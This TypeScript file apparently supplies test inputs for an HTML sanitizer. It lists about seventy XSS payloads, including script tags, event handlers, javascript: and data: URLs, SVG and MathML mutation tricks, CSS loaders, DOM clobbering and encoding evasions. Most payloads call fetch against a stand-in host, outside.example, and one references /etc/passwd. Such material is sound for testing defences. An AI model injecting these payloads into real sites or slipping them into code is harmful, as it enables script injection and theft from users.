/** What each piece of markup below would do if anything ran: tell the page, ask a person, and call home. */
const RUN = "top.hurt=1;window.hurt=1;alert(1);fetch('https://outside.example/ran')";

/** `RUN` as a double-quoted attribute takes it, and wholly in character references. */
const ATTRIBUTE = RUN.replaceAll("'", "&#39;");
const REFERENCES = Array.from(RUN, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join("");
const AFAR = "https://outside.example";
const PAGE = `<script>${RUN}</script>`;
const PAGE_AS_DATA = `data:text/html;base64,${Buffer.from(PAGE).toString("base64")}`;
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTRIBUTE}"><script>${RUN}</script></svg>`;
const DRAWING_AS_DATA = `data:image/svg+xml;base64,${Buffer.from(DRAWING).toString("base64")}`;

/** Markup that runs something, fetches something or leads away in a browser that believes it, each with what it tries. */
export const HOSTILE_MARKUP: readonly { name: string; markup: string }[] = Object.entries({
  // scripts
  "a script": `<script>${RUN}</script>`,
  "a script from afar": `<script src="${AFAR}/a.js"></script>`,
  "a script with odd letters around its name": `<ScRiPt\t/x>${RUN}</ScRiPt >`,
  "a script that is never closed": `<script>${RUN}`,
  "a script after a null": `<\u0000script>${RUN}</script>`,
  "a module": `<script type="module">import "${AFAR}/a.js";${RUN}</script>`,
  "a script in a script": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "an import map": `<script type="importmap">{"imports":{"a":"${AFAR}/a.js"}}</script><script type="module">import "a"</script>`,
  // event handlers
  "a picture that fails": `<img src=x onerror="${ATTRIBUTE}">`,
  "a picture with slashes for spaces": `<img/src=x/onerror="${ATTRIBUTE}">`,
  "a picture with a broken quote": `<img """><img src=x onerror="${ATTRIBUTE}">">`,
  "a handler in character references": `<img src=x onerror="${REFERENCES}">`,
  "a handler after a form feed": `<img src=x\u000conerror="${ATTRIBUTE}">`,
  "a body that loads": `<body onload="${ATTRIBUTE}" onpageshow="${ATTRIBUTE}" onhashchange="${ATTRIBUTE}">`,
  "details that open": `<details open ontoggle="${ATTRIBUTE}"><summary>x</summary></details>`,
  "a field that takes the focus": `<input autofocus onfocus="${ATTRIBUTE}"><textarea autofocus onfocus="${ATTRIBUTE}"></textarea>`,
  "an element that takes the focus": `<p tabindex=1 autofocus onfocus="${ATTRIBUTE}" onfocusin="${ATTRIBUTE}">x</p>`,
  "a pointer over words": `<b onmouseover="${ATTRIBUTE}" onpointerenter="${ATTRIBUTE}" onclick="${ATTRIBUTE}">x</b>`,
  "an animation that begins": `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${ATTRIBUTE}">x</p>`,
  "a transition": `<p style="transition:color 1s;color:red" ontransitionrun="${ATTRIBUTE}">x</p>`,
  "a video without a source": `<video src=x onerror="${ATTRIBUTE}"><source onerror="${ATTRIBUTE}"></video>`,
  "a sound from afar": `<audio autoplay src="${AFAR}/a.mp3" onloadstart="${ATTRIBUTE}"></audio>`,
  "a scrolled marquee": `<marquee onstart="${ATTRIBUTE}" loop=1 width=0>x</marquee>`,
  "a popover": `<button popovertarget=p>x</button><p popover id=p onbeforetoggle="${ATTRIBUTE}">x</p>`,
  "hidden until found": `<p hidden="until-found" onbeforematch="${ATTRIBUTE}">x</p>`,
  // addresses that are scripts
  "a link that is a script": `<a href="javascript:${ATTRIBUTE}">x</a>`,
  "a link with a tab in its scheme": `<a href="java\tscript:${ATTRIBUTE}">x</a>`,
  "a link in character references": `<a href="&#106;&#97;vascript&colon;${REFERENCES}">x</a>`,
  "a link after a control character": `<a href="\u0001javascript:${ATTRIBUTE}">x</a>`,
  "a link to a page in data": `<a href="${PAGE_AS_DATA}">x</a>`,
  "a link of old Windows": `<a href="vbscript:msgbox(1)">x</a>`,
  "a link out of the frame": `<a href="${AFAR}/away" target="_top" ping="${AFAR}/ping">x</a>`,
  "an area of a map": `<img usemap="#m" src="${AFAR}/a.png"><map name=m><area href="javascript:${ATTRIBUTE}" shape=default></map>`,
  // frames and objects
  "a frame that is a script": `<iframe src="javascript:${ATTRIBUTE}"></iframe>`,
  "a frame with a page of its own": `<iframe srcdoc="&lt;script&gt;${ATTRIBUTE}&lt;/script&gt;"></iframe>`,
  "a frame of data": `<iframe src="${PAGE_AS_DATA}"></iframe>`,
  "a frame from afar": `<iframe src="${AFAR}/frame"></iframe><frameset><frame src="${AFAR}/frame"></frameset>`,
  "an object": `<object data="${PAGE_AS_DATA}" type="text/html"><param name=src value="${AFAR}/o"></object>`,
  "an embedded script": `<embed src="javascript:${ATTRIBUTE}"><embed src="${DRAWING_AS_DATA}" type="image/svg+xml">`,
  "an applet": `<applet code="x" codebase="${AFAR}/"></applet><portal src="${AFAR}/"></portal>`,
  // drawings and formulas
  "a drawing that loads": `<svg onload="${ATTRIBUTE}"></svg>`,
  "a script in a drawing": `<svg><script>${RUN}</script><script href="${DRAWING_AS_DATA}"/></svg>`,
  "an animated address": `<svg><a><animate attributeName=href values="javascript:${ATTRIBUTE}"/><text y=20>x</text></a></svg>`,
  "a set handler": `<svg><set attributeName=onmouseover to="${ATTRIBUTE}"/><use href="${DRAWING_AS_DATA}#x"/></svg>`,
  "a foreign object": `<svg><foreignObject><iframe srcdoc="${PAGE.replaceAll('"', "&quot;")}"></iframe></foreignObject></svg>`,
  "a drawing as a picture": `<img src="${DRAWING_AS_DATA}"><picture><source srcset="${AFAR}/a.webp"><img src="${AFAR}/a.png"></picture>`,
  "a formula with a link": `<math><maction actiontype="statusline#${AFAR}" xlink:href="javascript:${ATTRIBUTE}">x</maction></math>`,
  // what leads or loads without a script
  "a page that moves on": `<meta http-equiv="refresh" content="0;url=javascript:${ATTRIBUTE}"><meta http-equiv=refresh content="0;url=${AFAR}/on">`,
  "another base": `<base href="${AFAR}/"><img src="a.png"><a href="b">x</a>`,
  "another policy": `<meta http-equiv="Content-Security-Policy" content="default-src *"><script src="${AFAR}/a.js"></script>`,
  "a form": `<form action="${AFAR}/form"><input name=a><button>x</button></form><button form=x formaction="javascript:${ATTRIBUTE}">x</button>`,
  "a sheet of style": `<link rel=stylesheet href="${AFAR}/a.css"><link rel=preload as=image href="${AFAR}/a.png"><link rel=dns-prefetch href="${AFAR}">`,
  "an imported style": `<style>@import "${AFAR}/a.css";@font-face{font-family:a;src:url(${AFAR}/a.woff)}p{font-family:a;background:url(${AFAR}/p.png)}</style><p>x</p>`,
  "a style that loads": `<p style="background:url(${AFAR}/b.png);list-style:url('${AFAR}/c.png')">x</p><table background="${AFAR}/t.png"><td background="${AFAR}/d.png"></table>`,
  "a style that counts": `<p style="width:expression(${ATTRIBUTE});behavior:url(${AFAR}/x.htc);-moz-binding:url(${AFAR}/x.xml#a)">x</p>`,
  "an escaped style": `<p style="background:\\75 rl(${AFAR}/e.png);font-weight:bold;text-align:url(${AFAR}/f.png)">x</p>`,
  "pictures from everywhere": `<img src="//outside.example/a.png" srcset="${AFAR}/b.png 2x"><img lowsrc="${AFAR}/c.png" dynsrc="${AFAR}/d.avi"><input type=image src="${AFAR}/e.png">`,
  "pictures beside the page": `<img src="/originals/x"><img src="a.png"><img src="blob:null/1"><img src="file:///etc/passwd">`,
  // markup that becomes something else when it is read again
  "a formula that turns into a page": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ATTRIBUTE}&gt;">`,
  "a drawing that turns into a page": `<svg></p><style><a id="</style><img src=x onerror=${ATTRIBUTE}>">`,
  "a title with an end in it": `<noscript><p title="</noscript><img src=x onerror=${ATTRIBUTE}>"></noscript>`,
  "an open field of text": `<textarea><img title="</textarea><img src=x onerror=${ATTRIBUTE}>"></textarea>`,
  "nested forms": `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${ATTRIBUTE} src>">`,
  "plain text that never ends": `<xmp><img title="</xmp><img src=x onerror=${ATTRIBUTE}>"></xmp><plaintext><img src=x onerror="${ATTRIBUTE}">`,
  "a comment that ends early": `<!--><img src=x onerror="${ATTRIBUTE}">--><!--x--!><img src=x onerror="${ATTRIBUTE}"><![CDATA[<img src=x onerror=${ATTRIBUTE}>]]>`,
  "a template": `<template><img src=x onerror="${ATTRIBUTE}"></template><div><template shadowrootmode=open><img src=x onerror="${ATTRIBUTE}"></template></div>`,
  "a choice with markup in it": `<select><option><style></option></select><img src=x onerror="${ATTRIBUTE}"></style></select>`,
  "deep nesting": `${"<div>".repeat(600)}<img src=x onerror="${ATTRIBUTE}">${"</div>".repeat(600)}`,
  // names that shadow those of the page
  "names of the document": `<form id=body><input name=attributes><input name=childNodes></form><img name=contentDocument><a id=defaultView href="javascript:${ATTRIBUTE}"></a>`,
  "names of the window": `<a id=hurt></a><img name=hurt><a id=CSS href="x:y"></a><a id=CSS name=highlights></a><form name=getSelection></form>`,
  // encodings
  "an escape of UTF-7": `<meta charset="utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  "overlong and half letters": `\ufffe<img src=x onerror="${ATTRIBUTE}">\ud800<img src=x onerror="${ATTRIBUTE}">`,
  "half-width letters": `＜script＞${RUN}＜/script＞<img src=x ｏnerror="${ATTRIBUTE}" onerror="${ATTRIBUTE}">`,
}).map(([name, markup]) => ({ name, markup }));

/** Words that would run if they were ever taken for markup, for every field that a person sees. */
export const HOSTILE_WORDS = `"><img src=x onerror="${RUN}"><svg/onload=${RUN}>{{7*7}}\${alert(1)}</title></script><script>${RUN}</script>`;
